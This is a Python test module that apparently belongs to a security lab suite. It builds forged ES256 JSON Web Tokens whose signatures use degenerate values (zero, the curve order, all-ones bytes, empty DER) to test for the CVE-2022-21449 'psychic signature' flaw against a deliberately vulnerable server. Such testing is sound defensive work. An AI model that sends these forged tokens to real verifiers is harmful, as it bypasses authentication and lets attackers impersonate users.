"""Signatures that fit everything if the numbers in them are not looked at first."""

from loadtests.attacks.attack import Attack
from loadtests.attacks.laboratory.condition import Control
from loadtests.attacks.laboratory.forgeries import forger
from loadtests.attacks.laboratory.jws import encoded, signing_input
from loadtests.attacks.laboratory.lab import AttackLab, AttackResult

_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_FIELD = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
_ONES = b"\xff" * 64


class PsychicSignature(Attack):
    """The victim's claims under ES256, with the values of r and s that verifiers have tripped over."""

    row = "G8"
    name = "special signatures"
    question = "Is a token believed whose signature consists of special numbers?"
    sources = ("RFC 8725 section 3.4", "CVE-2022-21449")
    control = Control("servers.vulnerable.tokens.verification:VulnerablePsychic")

    def run(self, lab: AttackLab) -> AttackResult:
        made = forger(lab)
        text = signing_input({**made.header, "alg": "ES256"}, made.claims)
        pairs = [
            (r, s)
            for r in (0, 1, _ORDER, _ORDER - 1, _FIELD)
            for s in (0, 1, _ORDER, _ORDER - 1)
            if (r, s) != (1, 1)
        ]
        forgeries = {f"r = {_name(r)}, s = {_name(s)}": f"{text}.{_signature(r, s)}" for r, s in pairs}
        forgeries["all ones"] = f"{text}.{encoded(_ONES)}"
        forgeries["one byte less"] = f"{text}.{encoded(bytes(63))}"
        forgeries["DER of (0, 0)"] = f"{text}.{encoded(bytes.fromhex('3006020100020100'))}"
        forgeries["DER of (1, 1)"] = f"{text}.{encoded(bytes.fromhex('3006020101020101'))}"
        forgeries["an empty sequence"] = f"{text}.{encoded(bytes.fromhex('3000'))}"
        return made.result(forgeries, "numbers out of range are no signature")


def _signature(r: int, s: int) -> str:
    return encoded(r.to_bytes(32, "big") + s.to_bytes(32, "big"))


def _name(number: int) -> str:
    return {0: "0", 1: "1", _ORDER: "n", _ORDER - 1: "n - 1", _FIELD: "p"}[number]
